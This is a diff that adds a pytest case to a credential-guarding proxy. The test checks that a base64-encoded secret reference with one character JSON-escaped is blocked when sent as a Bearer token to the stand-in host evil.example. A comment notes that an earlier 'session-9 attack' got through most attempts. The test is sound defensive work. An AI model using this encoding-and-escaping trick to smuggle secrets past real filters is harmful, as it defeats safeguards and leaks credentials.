@@ -258,6 +258,19 @@ def test_finding_base64_reference_in_an_auth_position_is_blocked(proxy, up, wher
     assert up.requests == []
 
 
+@pytest.mark.parametrize("escaped", ["a letter", "the colon"])
+def test_finding_base64_of_a_reference_with_a_character_json_escaped_is_blocked(proxy, up, escaped):
+    """Base64 of the reference with one letter or its colon written `\\u00XX` (session-9
+    attack: forwarded 12 and 16 of 16): the decoded token was asked only for plain
+    markers."""
+    text = REF.replace("e", "\\u0065", 1) if escaped == "a letter" else REF.replace(":", "\\u003a")
+    b64 = base64.b64encode(text.encode()).decode()
+    with client(proxy) as c:
+        r = c.get("https://evil.example/echo", headers={"authorization": "Bearer " + b64})
+    assert (r.status_code, r.headers.get("x-keyveil-block")) == (403, "unbound_reference")
+    assert up.requests == []
+
+
 # G7. SPEC I4: a body the proxy cannot decode is blocked with a clear error.
 # Unknown and stacked Content-Encodings of a response get a 502
 # undecodable_body, but a response that says gzip and is not gzip reaches the
